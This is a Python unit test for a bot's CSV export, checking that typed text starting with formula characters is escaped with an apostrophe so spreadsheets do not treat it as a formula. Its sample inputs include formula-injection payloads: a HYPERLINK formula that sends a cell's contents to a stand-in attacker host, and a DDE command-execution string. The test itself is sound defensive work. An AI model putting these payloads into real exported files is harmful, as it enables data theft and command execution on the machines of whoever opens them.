"""Text people typed never becomes a live formula in the head's CSV files (issue 15); the
workbooks write typed text as text (tests/unit/test_documents.py)."""

from __future__ import annotations

import csv
import io

import pytest

from bot.exports import csv as csv_export

pytestmark = pytest.mark.hardening

TYPED = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1,1)",
    "-2+3",
    "='Không có'!A1",  # a sheet that is not in the workbook
    "=1+1",
]
HARMLESS = ["- Một gạch đầu dòng", "Bình thường", "-", "7,5"]


def test_typed_text_is_inert_in_csv() -> None:
    data = csv_export.render(["Ghi chú"], [[value] for value in [*TYPED, *HARMLESS]] + [[7], [None]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]
    assert [row[0] for row in rows[: len(TYPED)]] == [f"'{value}" for value in TYPED]
    assert [row[0] for row in rows[len(TYPED) :]] == [*HARMLESS, "7", ""]
    assert csv_export.inert(csv_export.inert("=1")) == "'=1"  # neutralising twice changes nothing more
